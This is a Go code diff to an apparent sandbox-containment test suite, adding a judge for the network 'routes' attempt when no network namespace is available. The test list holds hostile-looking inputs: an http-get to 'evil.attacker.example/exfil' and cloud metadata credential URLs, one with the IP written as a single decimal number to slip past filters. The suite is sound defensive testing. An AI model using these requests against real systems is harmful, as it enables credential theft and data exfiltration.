@@ -42,7 +42,7 @@ func attempts(secret, canary, udpCanary string) []attempt {
 		spin,
 		payloadAttempt("direct TCP socket to the host's loopback "+canary, refusedJudge("direct TCP socket to the host's loopback "+canary, "landlock + netns"), "connect", canary),
 		payloadAttempt("direct UDP datagram to the host's loopback "+udpCanary, refusedJudge("direct UDP datagram to the host's loopback "+udpCanary, "network namespace"), "udp-send", udpCanary),
-		payloadAttempt("look for a way out: interfaces and routes", refusedJudge("look for a way out: interfaces and routes", "network namespace"), "routes"),
+		payloadAttempt("look for a way out: interfaces and routes", routesJudge("look for a way out: interfaces and routes"), "routes"),
 		payloadAttempt("proxy to evil.attacker.example", egressJudge("proxy to evil.attacker.example", "denied by default"), "http-get", "http://evil.attacker.example/exfil"),
 		metadata("proxy to 169.254.169.254", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
 		metadata("proxy to 2852039166 (169.254.169.254 as one number)", "http://2852039166/latest/meta-data/"),
@@ -134,6 +134,26 @@ func refusedJudge(name, control string) func(outcome) Attempt {
 		a.Evidence = "errno " + rep.Errno
 		if rep.Errno == "" {
 			a.Evidence = rep.Evidence
+		}
+		return a
+	}
+}
+
+// routesJudge: only lo and no route, in the sandbox's own network
+// namespace. Where the host refuses one (a container: docs/sandbox.md,
+// "Inside a container") the host's interfaces are seen, and the kernel
+// keeps the sandbox off them (Landlock, seccomp: the direct TCP and UDP
+// attempts): contained, unless the receipt says egress is not held.
+func routesJudge(name string) func(outcome) Attempt {
+	return func(o outcome) Attempt {
+		a := refusedJudge(name, "network namespace")(o)
+		shared := strings.Contains(o.res.Receipt["namespaces"], "no network namespace")
+		if !shared || strings.HasPrefix(a.Evidence, "BROKEN") {
+			return a
+		}
+		if held := !strings.Contains(o.res.Receipt["network"], "NOT kernel-enforced"); held {
+			a.Gate, a.Contained = "landlock + seccomp (no network namespace)", true
+			a.Reason = "the host refuses a network namespace: its interfaces are seen, and Landlock (TCP to the proxy's port only) and seccomp (no UDP) keep the sandbox off them"
 		}
 		return a
 	}
